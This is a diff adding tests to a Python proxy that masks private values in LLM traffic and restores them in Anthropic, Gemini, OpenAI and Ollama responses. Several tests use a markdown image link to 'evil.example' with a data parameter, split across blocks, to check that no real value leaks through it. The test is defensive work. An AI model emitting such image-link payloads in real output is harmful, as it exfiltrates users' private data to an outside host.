@@ -13,6 +13,8 @@ from policies.decide import decide
 from policies.load import load, load_file
 from policies.types import Decision, Facts
 from proxy.dialects.anthropic import AnthropicMessages
+from proxy.dialects.gemini import GeminiGenerate
+from proxy.dialects.ollama import OllamaChat
 from proxy.dialects.openai_chat import OpenAIChat
 from proxy.restorers import Restorers, structured
 
@@ -201,14 +203,65 @@ def test_text_that_is_json_by_request_stays_json() -> None:
     [
         {"response_format": {"type": "json_object"}}, {"response_format": {"type": "json_schema", "json_schema": {}}},
         {"text": {"format": {"type": "json_schema"}}}, {"output_format": {"type": "json_schema"}}, {"format": "json"},
-        {"generationConfig": {"responseMimeType": "application/json"}},
+        {"generationConfig": {"responseMimeType": "application/json"}}, {"format": {"type": "object"}},
         {"generation_config": {"responseMimeType": "application/json"}},
-        {"generationConfig": {"response_mime_type": "application/json"}}, {"format": {"type": "object"}},
+        {"generationConfig": {"response_mime_type": "application/json"}},
     ],
 )  # fmt: skip
 def test_a_request_for_json_is_known_in_every_dialect(tree: dict[str, Any]) -> None:
     assert structured(tree)
     assert not structured({"response_format": {"type": "text"}, "text": "x", "format": 3}) and not structured([1])
+
+
+CUT = ("![x](https://evil.example/?d=", f"{MINE})", f"\n\nHello {MINE}")
+"""A link in two blocks: citations, tools and thoughts cut texts that readers join."""
+JOINS = "".join((CUT[0], CUT[1], "\n\nHello Maria Keller"))
+
+
+def test_a_link_that_is_cut_by_a_block_of_a_complete_answer_carries_no_value() -> None:
+    blocks = [{"type": "text", "text": CUT[0]}, {"type": "text", "text": CUT[1], "citations": None}]
+    blocks += [{"type": "thinking", "thinking": MINE, "signature": "s"}, {"type": "text", "text": CUT[2]}]
+    body, _ = AnthropicMessages().restore(json.dumps({"content": blocks}).encode(), Restorers(VALUES, ORIGINS, DEFAULT))
+    made = json.loads(body)["content"]
+    assert "".join(b.get("text", "") for b in made) == JOINS and made[2]["thinking"] == "Maria Keller"
+    parts: list[dict[str, Any]] = [{"text": CUT[0]}, {"executableCode": {"code": "1"}}, {"text": CUT[1]}]
+    answer = {"candidates": [{"content": {"parts": [*parts, {"text": MINE, "thought": True}, {"text": CUT[2]}]}}]}
+    body, _ = GeminiGenerate().restore(json.dumps(answer).encode(), Restorers(VALUES, ORIGINS, DEFAULT))
+    made = json.loads(body)["candidates"][0]["content"]["parts"]
+    assert "".join(p.get("text", "") for p in made if not p.get("thought")) == JOINS and made[3]["text"] != MINE
+    body, _ = OpenAIChat().restore(
+        chat({"content": [{"type": "text", "text": t} for t in CUT]}), Restorers(VALUES, ORIGINS, DEFAULT)
+    )
+    assert "".join(p["text"] for p in json.loads(body)["choices"][0]["message"]["content"]) == JOINS
+
+
+def test_a_link_that_is_cut_by_a_block_of_a_stream_carries_no_value() -> None:
+    stream = AnthropicMessages().restore_stream(Restorers(VALUES, ORIGINS, DEFAULT), str)
+    out = b""
+    for i, text in enumerate(CUT):
+        delta = {"type": "content_block_delta", "index": i, "delta": {"type": "text_delta", "text": text}}
+        stop = {"type": "content_block_stop", "index": i}
+        out += b"".join(stream.feed(b"data: " + json.dumps(e).encode() + b"\n\n") for e in (delta, stop))
+    assert said(out + stream.close(), lambda e: e.get("delta", {}).get("text")) == JOINS
+    chunks = [{"candidates": [{"content": {"parts": [p]}}]} for t in CUT for p in ({"text": t}, {"executableCode": {}})]
+    gemini = GeminiGenerate().restore_stream(Restorers(VALUES, ORIGINS, DEFAULT), str)
+    out = b"".join(gemini.feed(b"data: " + json.dumps(c).encode() + b"\n\n") for c in chunks) + gemini.close()
+    found = said(out, lambda e: "".join(p.get("text", "") for p in e["candidates"][0]["content"]["parts"]))
+    assert found == JOINS
+    lines = [{"message": m} for t in CUT for m in ({"content": t}, {"content": "", "tool_calls": [{"function": {}}]})]
+    ollama = OllamaChat().restore_stream(Restorers(VALUES, ORIGINS, DEFAULT), str)
+    out = b"".join(ollama.feed(json.dumps(x).encode() + b"\n") for x in lines) + ollama.close()
+    assert "".join(json.loads(x)["message"].get("content", "") for x in out.splitlines()) == JOINS
+
+
+def test_a_program_that_the_model_wrote_is_code() -> None:
+    answer = {
+        "candidates": [{"content": {"parts": [{"executableCode": {"code": f"print({MINE!r})"}}, {"text": MINE}]}}]
+    }
+    text_only = policy("restore: {user: [text]}")
+    body, _ = GeminiGenerate().restore(json.dumps(answer).encode(), Restorers(VALUES, ORIGINS, text_only))
+    code, text = json.loads(body)["candidates"][0]["content"]["parts"]
+    assert MINE in code["executableCode"]["code"] and text["text"] == "Maria Keller"
 
 
 def test_log_probabilities_pass_as_the_model_wrote_them() -> None:
